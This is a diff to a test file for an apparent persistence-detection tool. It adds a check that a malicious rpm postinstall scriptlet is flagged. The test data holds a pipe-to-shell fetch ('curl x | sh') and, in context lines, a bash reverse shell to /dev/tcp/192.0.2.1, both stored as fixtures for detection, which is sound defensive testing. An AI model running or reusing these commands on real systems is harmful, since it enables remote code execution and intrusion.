@@ -89,6 +89,13 @@ def test_other_programs_of_a_command_are_named(home):
     assert only(told(home, (), targets))["also"] == ["/opt/x"]
 
 
+def test_scripts_of_rpm_packages(home):
+    home.give(b"live/commands/rpm-scripts.txt", b"".join(
+        b"package p%d-1\npostinstall scriptlet (using /bin/sh):\n%s\n" % (number, b"curl x | sh" if number == 70 else b"ldconfig" * 900) for number in range(99)))
+    (row,) = told(home)["persistence"]
+    assert (row["mechanism"], row["trigger"], row["line"], row["user"]) == ("package_script", "rpm: a script of p70-1", 213, "root")
+
+
 def test_lines_of_scripts_that_are_started(home):
     evil = b"#!/bin/bash\n# curl\nbash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' &\n"
     home.file(b"/usr/share/dbus-1/system-services/x.service", b"[D-BUS Service]\nName=x\nExec=/opt/link\n")
